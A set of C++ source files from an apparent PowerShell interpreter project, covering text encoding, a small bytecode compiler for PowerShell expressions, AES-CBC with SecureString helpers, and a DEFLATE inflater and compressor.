    case TextEncoding::Ascii:
      for (std::uint32_t cp : utf8_codepoints(text)) {
        out.push_back(cp < 0x80 ? static_cast<std::uint8_t>(cp) : '?');
      }
      return out;
    case TextEncoding::Utf8:
      return ByteVec(text.begin(), text.end());
    case TextEncoding::Unicode: {
      for (std::uint32_t cp : utf8_codepoints(text)) {
        if (cp >= 0x10000) {
          const std::uint32_t v = cp - 0x10000;
          const std::uint32_t hi = 0xD800 + (v >> 10);
          const std::uint32_t lo = 0xDC00 + (v & 0x3FF);
          out.push_back(static_cast<std::uint8_t>(hi & 0xFF));
          out.push_back(static_cast<std::uint8_t>(hi >> 8));
          out.push_back(static_cast<std::uint8_t>(lo & 0xFF));
          out.push_back(static_cast<std::uint8_t>(lo >> 8));
        } else {
          out.push_back(static_cast<std::uint8_t>(cp & 0xFF));
          out.push_back(static_cast<std::uint8_t>(cp >> 8));
        }
      }
      return out;
    }
    case TextEncoding::BigEndianUnicode: {
      for (std::uint32_t cp : utf8_codepoints(text)) {
        const std::uint32_t unit = cp < 0x10000 ? cp : '?';
        out.push_back(static_cast<std::uint8_t>(unit >> 8));
        out.push_back(static_cast<std::uint8_t>(unit & 0xFF));
      }
      return out;
    }
  }
  return out;
}

}  // namespace ps
