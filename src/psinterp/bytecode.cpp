#include "psinterp/bytecode.h"

#include <string_view>

#include "psast/ast.h"

namespace ps::bytecode {

namespace {

/// Compile-time bail-out: thrown for any construct outside the covered
/// subset and caught once in compile_piece. Never escapes this file.
struct Unsupported {};

/// Automatic variables whose values are hard constants in eval_variable —
/// they short-circuit before any table/scope lookup, so reading them cannot
/// observe interpreter state and does not break chunk purity.
bool is_constant_variable(const VariableExpressionAst& var) {
  if (!var.scope_qualifier().empty()) return false;
  const std::string bare = var.bare_name();
  return bare == "true" || bare == "false" || bare == "null" ||
         bare == "pshome" || bare == "psscriptroot" || bare == "shellid" ||
         bare == "home" || bare == "pwd";
}

bool is_value_unary_op(const std::string& op) {
  return op == "-" || op == "+" || op == "!" || op == "-not" ||
         op == "-bnot" || op == "-join" || op == "-split" || op == ",";
}

class Compiler {
 public:
  std::shared_ptr<Chunk> compile(const Ast& root) {
    chunk_ = std::make_shared<Chunk>();
    try {
      // Interpreter::evaluate() enters through exec_statement, which
      // charges one step before dispatching.
      emit(Op::Tick);
      if (root.kind() == NodeKind::Pipeline) {
        // exec_statement's Pipeline case goes straight to eval_pipeline.
        emit_lone_pipeline(static_cast<const PipelineAst&>(root));
      } else {
        // Every other supported root is exec_statement's default case:
        // a bare expression pushed through eval_expr.
        emit_expr(root);
      }
    } catch (const Unsupported&) {
      return nullptr;
    }
    chunk_->pure = pure_;
    chunk_->max_stack = max_stack_;
    return std::move(chunk_);
  }

 private:
  std::shared_ptr<Chunk> chunk_;
  bool pure_ = true;
  std::uint32_t depth_ = 0;
  std::uint32_t max_stack_ = 0;

  std::size_t emit(Op op, std::uint32_t a = 0) {
    chunk_->code.push_back(Insn{op, a});
    return chunk_->code.size() - 1;
  }

  void note_push(std::uint32_t n = 1) {
    depth_ += n;
    if (depth_ > max_stack_) max_stack_ = depth_;
  }
  void note_pop(std::uint32_t n = 1) { depth_ -= n; }

  std::uint32_t name_index(std::string_view text) {
    auto& names = chunk_->names;
    for (std::size_t i = 0; i < names.size(); ++i) {
      if (names[i] == text) return static_cast<std::uint32_t>(i);
    }
    names.emplace_back(text);
    return static_cast<std::uint32_t>(names.size() - 1);
  }

  void push_const(Value v) {
    chunk_->constants.push_back(std::move(v));
    emit(Op::PushConst,
         static_cast<std::uint32_t>(chunk_->constants.size() - 1));
    note_push();
  }

  /// A pipeline evaluated for its lone value: exactly one expression
  /// element (commands and multi-stage pipelines are not covered). Mirrors
  /// eval_pipeline's per-element charge plus the lone-expression stream
  /// shaping that Value::from_stream then collapses.
  void emit_lone_pipeline(const PipelineAst& pipe) {
    if (pipe.elements.size() != 1) throw Unsupported{};
    const Ast& el = *pipe.elements[0];
    if (el.kind() != NodeKind::CommandExpression) throw Unsupported{};
    const auto& ce = static_cast<const CommandExpressionAst&>(el);
    emit(Op::Tick);  // eval_pipeline charges once per element
    emit_expr(*ce.expression);
    emit(Op::CollectLone);
  }

  /// One statement evaluated for its collected stream (the body of a paren
  /// or subexpression): exec_statement's charge, then the statement, which
  /// must be a lone-expression pipeline — any other statement kind
  /// (assignment, control flow) is out of scope.
  void emit_lone_statement(const Ast& stmt) {
    if (stmt.kind() != NodeKind::Pipeline) throw Unsupported{};
    emit(Op::Tick);  // exec_statement entry charge
    emit_lone_pipeline(static_cast<const PipelineAst&>(stmt));
  }

  /// Emits `node` exactly as eval_expr evaluates it: one step charge on
  /// entry, children left to right, operator last.
  void emit_expr(const Ast& node) {
    emit(Op::Tick);
    switch (node.kind()) {
      case NodeKind::ConstantExpression:
        push_const(static_cast<const ConstantExpressionAst&>(node).value);
        return;
      case NodeKind::StringConstantExpression:
        push_const(Value(
            static_cast<const StringConstantExpressionAst&>(node).value));
        return;
      case NodeKind::ExpandableStringExpression: {
        const auto& es = static_cast<const ExpandableStringExpressionAst&>(node);
        // Interpolation that mentions `$` may read variables or run a
        // `$(...)` subexpression — context-dependent, so not pure.
        if (es.raw.find('$') != std::string::npos) pure_ = false;
        emit(Op::Interp, name_index(es.raw));
        note_push();
        return;
      }
      case NodeKind::VariableExpression: {
        const auto& var = static_cast<const VariableExpressionAst&>(node);
        if (!is_constant_variable(var)) pure_ = false;
        emit(Op::LoadVar, name_index(var.name));
        note_push();
        return;
      }
      case NodeKind::TypeExpression:
        push_const(Value(
            "[" + static_cast<const TypeExpressionAst&>(node).type_name + "]"));
        return;
      case NodeKind::BinaryExpression: {
        const auto& bin = static_cast<const BinaryExpressionAst&>(node);
        // -and / -or short-circuit in eval_binary without touching
        // eval_binary_values (and without its internal step charge).
        if (bin.op == "-and" || bin.op == "-or") {
          emit_expr(*bin.left);
          const std::size_t jump =
              emit(bin.op == "-and" ? Op::AndJump : Op::OrJump);
          note_pop();  // the jump consumes the left value...
          emit_expr(*bin.right);
          emit(Op::ToBool);
          chunk_->code[jump].a =
              static_cast<std::uint32_t>(chunk_->code.size());
          return;  // ...and either path leaves exactly one result
        }
        emit_expr(*bin.left);
        emit_expr(*bin.right);
        emit(Op::BinOp, name_index(bin.op));
        note_pop();
        return;
      }
      case NodeKind::UnaryExpression: {
        const auto& un = static_cast<const UnaryExpressionAst&>(node);
        // ++/-- mutate a variable (and have statement-position void
        // semantics) — left to the tree walker.
        if (!is_value_unary_op(un.op)) throw Unsupported{};
        emit_expr(*un.child);
        emit(Op::UnOp, name_index(un.op));
        return;
      }
      case NodeKind::ConvertExpression: {
        const auto& conv = static_cast<const ConvertExpressionAst&>(node);
        emit_expr(*conv.child);
        emit(Op::Cast, name_index(conv.type_name));
        return;
      }
      case NodeKind::IndexExpression: {
        const auto& idx = static_cast<const IndexExpressionAst&>(node);
        emit_expr(*idx.target);
        emit_expr(*idx.index);
        emit(Op::Index);
        note_pop();
        return;
      }
      case NodeKind::ArrayLiteral: {
        const auto& arr = static_cast<const ArrayLiteralAst&>(node);
        for (const auto& el : arr.elements) emit_expr(*el);
        emit(Op::MakeArray, static_cast<std::uint32_t>(arr.elements.size()));
        note_pop(static_cast<std::uint32_t>(arr.elements.size()));
        note_push();
        return;
      }
      case NodeKind::ParenExpression: {
        const auto& pe = static_cast<const ParenExpressionAst&>(node);
        emit_lone_statement(*pe.pipeline);
        return;
      }
      case NodeKind::SubExpression: {
        const auto& se = static_cast<const SubExpressionAst&>(node);
        if (se.statements.empty()) {
          push_const(Value());  // $() collects nothing -> null
          return;
        }
        if (se.statements.size() != 1) throw Unsupported{};
        emit_lone_statement(*se.statements[0]);
        return;
      }
      case NodeKind::ArrayExpression: {
        const auto& ae = static_cast<const ArrayExpressionAst&>(node);
        if (ae.statements.empty()) {
          push_const(Value(Array{}));  // @() is an empty array
          return;
        }
        if (ae.statements.size() != 1) throw Unsupported{};
        emit_lone_statement(*ae.statements[0]);
        emit(Op::ToArray);
        return;
      }
      case NodeKind::Pipeline:
        // eval_expr's Pipeline case calls eval_pipeline directly (no
        // exec_statement charge) and from_streams the result.
        emit_lone_pipeline(static_cast<const PipelineAst&>(node));
        return;
      default:
        // Commands, member access, invocation, hashtables, script blocks,
        // assignments: tree-walk territory.
        throw Unsupported{};
    }
  }
};

}  // namespace

std::shared_ptr<Chunk> compile_piece(const Ast& root) {
  return Compiler{}.compile(root);
}

}  // namespace ps::bytecode
