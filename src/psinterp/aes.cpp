#include "psinterp/aes.h"

#include <array>
#include <cstring>

namespace ps {

namespace {

constexpr std::array<std::uint8_t, 256> kSbox = {
    0x63, 0x7c, 0x77, 0x7b, 0xf2, 0x6b, 0x6f, 0xc5, 0x30, 0x01, 0x67, 0x2b,
    0xfe, 0xd7, 0xab, 0x76, 0xca, 0x82, 0xc9, 0x7d, 0xfa, 0x59, 0x47, 0xf0,
    0xad, 0xd4, 0xa2, 0xaf, 0x9c, 0xa4, 0x72, 0xc0, 0xb7, 0xfd, 0x93, 0x26,
    0x36, 0x3f, 0xf7, 0xcc, 0x34, 0xa5, 0xe5, 0xf1, 0x71, 0xd8, 0x31, 0x15,
    0x04, 0xc7, 0x23, 0xc3, 0x18, 0x96, 0x05, 0x9a, 0x07, 0x12, 0x80, 0xe2,
    0xeb, 0x27, 0xb2, 0x75, 0x09, 0x83, 0x2c, 0x1a, 0x1b, 0x6e, 0x5a, 0xa0,
    0x52, 0x3b, 0xd6, 0xb3, 0x29, 0xe3, 0x2f, 0x84, 0x53, 0xd1, 0x00, 0xed,
    0x20, 0xfc, 0xb1, 0x5b, 0x6a, 0xcb, 0xbe, 0x39, 0x4a, 0x4c, 0x58, 0xcf,
    0xd0, 0xef, 0xaa, 0xfb, 0x43, 0x4d, 0x33, 0x85, 0x45, 0xf9, 0x02, 0x7f,
    0x50, 0x3c, 0x9f, 0xa8, 0x51, 0xa3, 0x40, 0x8f, 0x92, 0x9d, 0x38, 0xf5,
    0xbc, 0xb6, 0xda, 0x21, 0x10, 0xff, 0xf3, 0xd2, 0xcd, 0x0c, 0x13, 0xec,
    0x5f, 0x97, 0x44, 0x17, 0xc4, 0xa7, 0x7e, 0x3d, 0x64, 0x5d, 0x19, 0x73,
    0x60, 0x81, 0x4f, 0xdc, 0x22, 0x2a, 0x90, 0x88, 0x46, 0xee, 0xb8, 0x14,
    0xde, 0x5e, 0x0b, 0xdb, 0xe0, 0x32, 0x3a, 0x0a, 0x49, 0x06, 0x24, 0x5c,
    0xc2, 0xd3, 0xac, 0x62, 0x91, 0x95, 0xe4, 0x79, 0xe7, 0xc8, 0x37, 0x6d,
    0x8d, 0xd5, 0x4e, 0xa9, 0x6c, 0x56, 0xf4, 0xea, 0x65, 0x7a, 0xae, 0x08,
    0xba, 0x78, 0x25, 0x2e, 0x1c, 0xa6, 0xb4, 0xc6, 0xe8, 0xdd, 0x74, 0x1f,
    0x4b, 0xbd, 0x8b, 0x8a, 0x70, 0x3e, 0xb5, 0x66, 0x48, 0x03, 0xf6, 0x0e,
    0x61, 0x35, 0x57, 0xb9, 0x86, 0xc1, 0x1d, 0x9e, 0xe1, 0xf8, 0x98, 0x11,
    0x69, 0xd9, 0x8e, 0x94, 0x9b, 0x1e, 0x87, 0xe9, 0xce, 0x55, 0x28, 0xdf,
    0x8c, 0xa1, 0x89, 0x0d, 0xbf, 0xe6, 0x42, 0x68, 0x41, 0x99, 0x2d, 0x0f,
    0xb0, 0x54, 0xbb, 0x16};

std::array<std::uint8_t, 256> make_inv_sbox() {
  std::array<std::uint8_t, 256> inv{};
  for (int i = 0; i < 256; ++i) inv[kSbox[i]] = static_cast<std::uint8_t>(i);
  return inv;
}
const std::array<std::uint8_t, 256> kInvSbox = make_inv_sbox();

std::uint8_t xtime(std::uint8_t x) {
  return static_cast<std::uint8_t>((x << 1) ^ ((x >> 7) * 0x1B));
}

std::uint8_t gmul(std::uint8_t a, std::uint8_t b) {
  std::uint8_t out = 0;
  while (b != 0) {
    if (b & 1) out ^= a;
    a = xtime(a);
    b >>= 1;
  }
  return out;
}

struct KeySchedule {
  std::array<std::uint8_t, 240> round_keys{};
  int rounds = 0;
};

bool expand_key(const ByteVec& key, KeySchedule& ks) {
  const std::size_t nk = key.size() / 4;
  if (key.size() != 16 && key.size() != 24 && key.size() != 32) return false;
  ks.rounds = static_cast<int>(nk) + 6;
  const std::size_t total_words = 4u * (static_cast<std::size_t>(ks.rounds) + 1);
  std::memcpy(ks.round_keys.data(), key.data(), key.size());
  std::uint8_t rcon = 1;
  for (std::size_t i = nk; i < total_words; ++i) {
    std::uint8_t temp[4];
    std::memcpy(temp, &ks.round_keys[(i - 1) * 4], 4);
    if (i % nk == 0) {
      const std::uint8_t t = temp[0];
      temp[0] = static_cast<std::uint8_t>(kSbox[temp[1]] ^ rcon);
      temp[1] = kSbox[temp[2]];
      temp[2] = kSbox[temp[3]];
      temp[3] = kSbox[t];
      rcon = xtime(rcon);
    } else if (nk > 6 && i % nk == 4) {
      for (int k = 0; k < 4; ++k) temp[k] = kSbox[temp[k]];
    }
    for (int k = 0; k < 4; ++k) {
      ks.round_keys[i * 4 + static_cast<std::size_t>(k)] =
          ks.round_keys[(i - nk) * 4 + static_cast<std::size_t>(k)] ^ temp[k];
    }
  }
  return true;
}

using Block = std::array<std::uint8_t, 16>;

void add_round_key(Block& s, const KeySchedule& ks, int round) {
  for (int i = 0; i < 16; ++i) {
    s[i] ^= ks.round_keys[static_cast<std::size_t>(round) * 16 +
                          static_cast<std::size_t>(i)];
  }
}

void encrypt_block(Block& s, const KeySchedule& ks) {
  add_round_key(s, ks, 0);
  for (int round = 1; round <= ks.rounds; ++round) {
    for (int i = 0; i < 16; ++i) s[i] = kSbox[s[i]];  // SubBytes
    // ShiftRows.
    Block t = s;
    for (int r = 1; r < 4; ++r) {
      for (int c = 0; c < 4; ++c) s[r + 4 * c] = t[r + 4 * ((c + r) % 4)];
    }
    if (round != ks.rounds) {
      // MixColumns.
      for (int c = 0; c < 4; ++c) {
        const std::uint8_t a0 = s[4 * c], a1 = s[4 * c + 1], a2 = s[4 * c + 2],
                           a3 = s[4 * c + 3];
        s[4 * c] = static_cast<std::uint8_t>(gmul(a0, 2) ^ gmul(a1, 3) ^ a2 ^ a3);
        s[4 * c + 1] = static_cast<std::uint8_t>(a0 ^ gmul(a1, 2) ^ gmul(a2, 3) ^ a3);
        s[4 * c + 2] = static_cast<std::uint8_t>(a0 ^ a1 ^ gmul(a2, 2) ^ gmul(a3, 3));
        s[4 * c + 3] = static_cast<std::uint8_t>(gmul(a0, 3) ^ a1 ^ a2 ^ gmul(a3, 2));
      }
    }
    add_round_key(s, ks, round);
  }
}

void decrypt_block(Block& s, const KeySchedule& ks) {
  add_round_key(s, ks, ks.rounds);
  for (int round = ks.rounds - 1; round >= 0; --round) {
    // InvShiftRows.
    Block t = s;
    for (int r = 1; r < 4; ++r) {
      for (int c = 0; c < 4; ++c) s[r + 4 * ((c + r) % 4)] = t[r + 4 * c];
    }
    for (int i = 0; i < 16; ++i) s[i] = kInvSbox[s[i]];  // InvSubBytes
    add_round_key(s, ks, round);
    if (round != 0) {
      // InvMixColumns.
      for (int c = 0; c < 4; ++c) {
        const std::uint8_t a0 = s[4 * c], a1 = s[4 * c + 1], a2 = s[4 * c + 2],
                           a3 = s[4 * c + 3];
        s[4 * c] = static_cast<std::uint8_t>(gmul(a0, 14) ^ gmul(a1, 11) ^
                                             gmul(a2, 13) ^ gmul(a3, 9));
        s[4 * c + 1] = static_cast<std::uint8_t>(gmul(a0, 9) ^ gmul(a1, 14) ^
                                                 gmul(a2, 11) ^ gmul(a3, 13));
        s[4 * c + 2] = static_cast<std::uint8_t>(gmul(a0, 13) ^ gmul(a1, 9) ^
                                                 gmul(a2, 14) ^ gmul(a3, 11));
        s[4 * c + 3] = static_cast<std::uint8_t>(gmul(a0, 11) ^ gmul(a1, 13) ^
                                                 gmul(a2, 9) ^ gmul(a3, 14));
      }
    }
  }
}

}  // namespace

ByteVec aes_cbc_encrypt(const ByteVec& plain, const ByteVec& key,
                        const ByteVec& iv) {
  KeySchedule ks;
  if (!expand_key(key, ks) || iv.size() != 16) return {};
  // PKCS#7 padding.
  ByteVec padded = plain;
  const std::size_t pad = 16 - (padded.size() % 16);
  padded.insert(padded.end(), pad, static_cast<std::uint8_t>(pad));

  ByteVec out;
  out.reserve(padded.size());
  Block prev;
  std::memcpy(prev.data(), iv.data(), 16);
  for (std::size_t i = 0; i < padded.size(); i += 16) {
    Block block;
    for (int k = 0; k < 16; ++k) {
      block[k] = padded[i + static_cast<std::size_t>(k)] ^ prev[k];
    }
    encrypt_block(block, ks);
    out.insert(out.end(), block.begin(), block.end());
    prev = block;
  }
  return out;
}

std::optional<ByteVec> aes_cbc_decrypt(const ByteVec& cipher, const ByteVec& key,
                                       const ByteVec& iv) {
  KeySchedule ks;
  if (!expand_key(key, ks) || iv.size() != 16) return std::nullopt;
  if (cipher.empty() || cipher.size() % 16 != 0) return std::nullopt;

  ByteVec out;
  out.reserve(cipher.size());
  Block prev;
  std::memcpy(prev.data(), iv.data(), 16);
  for (std::size_t i = 0; i < cipher.size(); i += 16) {
    Block block;
    std::memcpy(block.data(), cipher.data() + i, 16);
    const Block saved = block;
    decrypt_block(block, ks);
    for (int k = 0; k < 16; ++k) block[k] ^= prev[k];
    out.insert(out.end(), block.begin(), block.end());
    prev = saved;
  }
  const std::uint8_t pad = out.back();
  if (pad == 0 || pad > 16 || pad > out.size()) return std::nullopt;
  for (std::size_t i = out.size() - pad; i < out.size(); ++i) {
    if (out[i] != pad) return std::nullopt;
  }
  out.resize(out.size() - pad);
  return out;
}

namespace securestring {

std::string protect(std::string_view plain, const ByteVec& key,
                    const ByteVec& iv) {
  const ByteVec data = encoding_get_bytes(TextEncoding::Unicode, plain);
  const ByteVec cipher = aes_cbc_encrypt(data, key, iv);
  ByteVec blob = iv;
  blob.insert(blob.end(), cipher.begin(), cipher.end());
  return base64_encode(blob);
}

std::optional<std::string> unprotect(std::string_view blob, const ByteVec& key) {
  const auto bytes = base64_decode(blob);
  if (!bytes || bytes->size() < 32) return std::nullopt;
  const ByteVec iv(bytes->begin(), bytes->begin() + 16);
  const ByteVec cipher(bytes->begin() + 16, bytes->end());
  const auto plain = aes_cbc_decrypt(cipher, key, iv);
  if (!plain) return std::nullopt;
  return encoding_get_string(TextEncoding::Unicode, *plain);
}

}  // namespace securestring

}  // namespace ps
