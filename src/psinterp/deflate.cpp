#include "psinterp/deflate.h"

#include <array>
#include <cstring>

namespace ps {

namespace {

// -------------------------------------------------------------- bit reader

class BitReader {
 public:
  explicit BitReader(const ByteVec& data) : data_(data) {}

  /// Reads `n` bits LSB-first. Returns -1 past end of input.
  int bits(int n) {
    while (count_ < n) {
      if (pos_ >= data_.size()) return -1;
      acc_ |= static_cast<std::uint32_t>(data_[pos_++]) << count_;
      count_ += 8;
    }
    const int out = static_cast<int>(acc_ & ((1u << n) - 1));
    acc_ >>= n;
    count_ -= n;
    return out;
  }

  void align_to_byte() {
    acc_ = 0;
    count_ = 0;
  }

  bool read_bytes(std::uint8_t* out, std::size_t n) {
    if (pos_ + n > data_.size()) return false;
    std::memcpy(out, data_.data() + pos_, n);
    pos_ += n;
    return true;
  }

  std::size_t pos() const { return pos_; }

 private:
  const ByteVec& data_;
  std::size_t pos_ = 0;
  std::uint32_t acc_ = 0;
  int count_ = 0;
};

// ----------------------------------------------------------- Huffman table

/// Canonical Huffman decoder built from code lengths (RFC 1951 section 3.2.2).
class Huffman {
 public:
  bool build(const std::uint8_t* lengths, int n) {
    counts_.fill(0);
    symbols_.assign(static_cast<std::size_t>(n), 0);
    for (int i = 0; i < n; ++i) counts_[lengths[i]]++;
    counts_[0] = 0;
    int left = 1;
    for (int len = 1; len <= 15; ++len) {
      left <<= 1;
      left -= counts_[len];
      if (left < 0) return false;  // over-subscribed
    }
    std::array<int, 16> offsets{};
    for (int len = 1; len < 15; ++len) {
      offsets[len + 1] = offsets[len] + counts_[len];
    }
    for (int i = 0; i < n; ++i) {
      if (lengths[i] != 0) symbols_[offsets[lengths[i]]++] = i;
    }
    return true;
  }

  int decode(BitReader& br) const {
    int code = 0, first = 0, index = 0;
    for (int len = 1; len <= 15; ++len) {
      const int b = br.bits(1);
      if (b < 0) return -1;
      code |= b;
      const int count = counts_[len];
      if (code - first < count) return symbols_[index + (code - first)];
      index += count;
      first = (first + count) << 1;
      code <<= 1;
    }
    return -1;
  }

 private:
  std::array<int, 16> counts_{};
  std::vector<int> symbols_;
};

constexpr std::array<int, 29> kLenBase = {3,  4,  5,  6,  7,  8,  9,  10, 11, 13,
                                          15, 17, 19, 23, 27, 31, 35, 43, 51, 59,
                                          67, 83, 99, 115, 131, 163, 195, 227, 258};
constexpr std::array<int, 29> kLenExtra = {0, 0, 0, 0, 0, 0, 0, 0, 1, 1, 1, 1, 2, 2,
                                           2, 2, 3, 3, 3, 3, 4, 4, 4, 4, 5, 5, 5, 5, 0};
constexpr std::array<int, 30> kDistBase = {
    1,    2,    3,    4,    5,    7,    9,    13,   17,   25,
    33,   49,   65,   97,   129,  193,  257,  385,  513,  769,
    1025, 1537, 2049, 3073, 4097, 6145, 8193, 12289, 16385, 24577};
constexpr std::array<int, 30> kDistExtra = {0, 0, 0, 0, 1, 1, 2, 2,  3,  3,
                                            4, 4, 5, 5, 6, 6, 7, 7,  8,  8,
                                            9, 9, 10, 10, 11, 11, 12, 12, 13, 13};

bool build_fixed(Huffman& lit, Huffman& dist) {
  std::array<std::uint8_t, 288> lit_lengths{};
  for (int i = 0; i < 144; ++i) lit_lengths[i] = 8;
  for (int i = 144; i < 256; ++i) lit_lengths[i] = 9;
  for (int i = 256; i < 280; ++i) lit_lengths[i] = 7;
  for (int i = 280; i < 288; ++i) lit_lengths[i] = 8;
  std::array<std::uint8_t, 30> dist_lengths{};
  dist_lengths.fill(5);
  return lit.build(lit_lengths.data(), 288) && dist.build(dist_lengths.data(), 30);
}

bool inflate_block(BitReader& br, const Huffman& lit, const Huffman& dist,
                   ByteVec& out, std::size_t max_output) {
  while (true) {
    const int sym = lit.decode(br);
    if (sym < 0) return false;
    if (sym == 256) return true;  // end of block
    if (sym < 256) {
      if (out.size() >= max_output) return false;
      out.push_back(static_cast<std::uint8_t>(sym));
      continue;
    }
    const int li = sym - 257;
    if (li >= static_cast<int>(kLenBase.size())) return false;
    const int extra = br.bits(kLenExtra[li]);
    if (extra < 0) return false;
    const int length = kLenBase[li] + extra;
    const int dsym = dist.decode(br);
    if (dsym < 0 || dsym >= static_cast<int>(kDistBase.size())) return false;
    const int dextra = br.bits(kDistExtra[dsym]);
    if (dextra < 0) return false;
    const std::size_t distance =
        static_cast<std::size_t>(kDistBase[dsym] + dextra);
    if (distance > out.size()) return false;
    if (out.size() + static_cast<std::size_t>(length) > max_output) return false;
    for (int i = 0; i < length; ++i) {
      out.push_back(out[out.size() - distance]);
    }
  }
}

}  // namespace

std::optional<ByteVec> inflate(const ByteVec& data, std::size_t max_output) {
  BitReader br(data);
  ByteVec out;
  while (true) {
    const int final_block = br.bits(1);
    const int type = br.bits(2);
    if (final_block < 0 || type < 0) return std::nullopt;
    if (type == 0) {
      br.align_to_byte();
      std::uint8_t header[4];
      if (!br.read_bytes(header, 4)) return std::nullopt;
      const std::uint16_t len = static_cast<std::uint16_t>(header[0] | (header[1] << 8));
      const std::uint16_t nlen = static_cast<std::uint16_t>(header[2] | (header[3] << 8));
      if (static_cast<std::uint16_t>(~len) != nlen) return std::nullopt;
      if (out.size() + len > max_output) return std::nullopt;
      const std::size_t off = out.size();
      out.resize(off + len);
      if (!br.read_bytes(out.data() + off, len)) return std::nullopt;
    } else if (type == 1) {
      Huffman lit, dist;
      if (!build_fixed(lit, dist)) return std::nullopt;
      if (!inflate_block(br, lit, dist, out, max_output)) return std::nullopt;
    } else if (type == 2) {
      const int hlit = br.bits(5);
      const int hdist = br.bits(5);
      const int hclen = br.bits(4);
      if (hlit < 0 || hdist < 0 || hclen < 0) return std::nullopt;
      const int nlit = hlit + 257;
      const int ndist = hdist + 1;
      const int ncode = hclen + 4;
      static constexpr std::array<int, 19> kOrder = {
          16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1, 15};
      std::array<std::uint8_t, 19> code_lengths{};
      for (int i = 0; i < ncode; ++i) {
        const int v = br.bits(3);
        if (v < 0) return std::nullopt;
        code_lengths[kOrder[i]] = static_cast<std::uint8_t>(v);
      }
      Huffman meta;
      if (!meta.build(code_lengths.data(), 19)) return std::nullopt;
      std::vector<std::uint8_t> lengths(static_cast<std::size_t>(nlit + ndist), 0);
      int i = 0;
      while (i < nlit + ndist) {
        const int sym = meta.decode(br);
        if (sym < 0) return std::nullopt;
        if (sym < 16) {
          lengths[i++] = static_cast<std::uint8_t>(sym);
        } else if (sym == 16) {
          if (i == 0) return std::nullopt;
          const int rep = br.bits(2);
          if (rep < 0) return std::nullopt;
          const std::uint8_t prev = lengths[i - 1];
          for (int r = 0; r < rep + 3 && i < nlit + ndist; ++r) lengths[i++] = prev;
        } else if (sym == 17) {
          const int rep = br.bits(3);
          if (rep < 0) return std::nullopt;
          for (int r = 0; r < rep + 3 && i < nlit + ndist; ++r) lengths[i++] = 0;
        } else {
          const int rep = br.bits(7);
          if (rep < 0) return std::nullopt;
          for (int r = 0; r < rep + 11 && i < nlit + ndist; ++r) lengths[i++] = 0;
        }
      }
      Huffman lit, dist;
      if (!lit.build(lengths.data(), nlit)) return std::nullopt;
      if (!dist.build(lengths.data() + nlit, ndist)) return std::nullopt;
      if (!inflate_block(br, lit, dist, out, max_output)) return std::nullopt;
    } else {
      return std::nullopt;
    }
    if (final_block == 1) break;
  }
  return out;
}

namespace {

class BitWriter {
 public:
  void bits(std::uint32_t value, int n) {
    acc_ |= static_cast<std::uint64_t>(value) << count_;
    count_ += n;
    while (count_ >= 8) {
      out_.push_back(static_cast<std::uint8_t>(acc_ & 0xFF));
      acc_ >>= 8;
      count_ -= 8;
    }
  }

  ByteVec finish() {
    if (count_ > 0) out_.push_back(static_cast<std::uint8_t>(acc_ & 0xFF));
    return std::move(out_);
  }

 private:
  ByteVec out_;
  std::uint64_t acc_ = 0;
  int count_ = 0;
};

std::uint32_t reverse_bits(std::uint32_t v, int n) {
  std::uint32_t out = 0;
  for (int i = 0; i < n; ++i) {
    out = (out << 1) | (v & 1);
    v >>= 1;
  }
  return out;
}

void write_fixed_literal(BitWriter& bw, int sym) {
  // Fixed literal/length code (RFC 1951 3.2.6). Codes are MSB-first.
  if (sym < 144) {
    bw.bits(reverse_bits(static_cast<std::uint32_t>(0x30 + sym), 8), 8);
  } else if (sym < 256) {
    bw.bits(reverse_bits(static_cast<std::uint32_t>(0x190 + sym - 144), 9), 9);
  } else if (sym < 280) {
    bw.bits(reverse_bits(static_cast<std::uint32_t>(sym - 256), 7), 7);
  } else {
    bw.bits(reverse_bits(static_cast<std::uint32_t>(0xC0 + sym - 280), 8), 8);
  }
}

void write_length(BitWriter& bw, int length) {
  int li = 0;
  for (int i = 28; i >= 0; --i) {
    if (length >= kLenBase[i]) {
      li = i;
      break;
    }
  }
  write_fixed_literal(bw, 257 + li);
  if (kLenExtra[li] > 0) {
    bw.bits(static_cast<std::uint32_t>(length - kLenBase[li]), kLenExtra[li]);
  }
}

void write_distance(BitWriter& bw, int distance) {
  int di = 0;
  for (int i = 29; i >= 0; --i) {
    if (distance >= kDistBase[i]) {
      di = i;
      break;
    }
  }
  bw.bits(reverse_bits(static_cast<std::uint32_t>(di), 5), 5);
  if (kDistExtra[di] > 0) {
    bw.bits(static_cast<std::uint32_t>(distance - kDistBase[di]), kDistExtra[di]);
  }
}

}  // namespace

ByteVec deflate_compress(const ByteVec& data) {
  BitWriter bw;
  bw.bits(1, 1);  // final block
  bw.bits(1, 2);  // fixed Huffman

  // Greedy LZ77 with a 3-byte hash table of most-recent positions.
  constexpr std::size_t kHashSize = 1u << 15;
  constexpr std::size_t kWindow = 32768;
  constexpr int kMaxLen = 258;
  std::vector<std::int64_t> head(kHashSize, -1);
  const auto hash3 = [&](std::size_t i) {
    const std::uint32_t h = data[i] | (data[i + 1] << 8) | (data[i + 2] << 16);
    return (h * 2654435761u) >> 17;
  };

  std::size_t i = 0;
  while (i < data.size()) {
    int best_len = 0;
    std::size_t best_dist = 0;
    if (i + 3 <= data.size()) {
      const std::size_t h = hash3(i) & (kHashSize - 1);
      const std::int64_t cand = head[h];
      if (cand >= 0 && i - static_cast<std::size_t>(cand) <= kWindow) {
        const std::size_t c = static_cast<std::size_t>(cand);
        int len = 0;
        const int limit =
            static_cast<int>(std::min<std::size_t>(kMaxLen, data.size() - i));
        while (len < limit && data[c + static_cast<std::size_t>(len)] ==
                                  data[i + static_cast<std::size_t>(len)]) {
          ++len;
        }
        if (len >= 3) {
          best_len = len;
          best_dist = i - c;
        }
      }
      head[h] = static_cast<std::int64_t>(i);
    }
    if (best_len >= 3) {
      write_length(bw, best_len);
      write_distance(bw, static_cast<int>(best_dist));
      // Insert hash entries for the skipped positions.
      for (std::size_t k = i + 1; k < i + static_cast<std::size_t>(best_len) &&
                                  k + 3 <= data.size();
           ++k) {
        head[hash3(k) & (kHashSize - 1)] = static_cast<std::int64_t>(k);
      }
      i += static_cast<std::size_t>(best_len);
    } else {
      write_fixed_literal(bw, data[i]);
      ++i;
    }
  }
  write_fixed_literal(bw, 256);  // end of block
  return bw.finish();
}

}  // namespace ps
