#pragma once

/// \file bytecode.h
/// Per-piece bytecode for the recovery hot path. A recoverable piece (the
/// paper's six node kinds plus expandable strings) is compiled once into a
/// compact stack-machine `Chunk`, cached in the parse arena alongside the
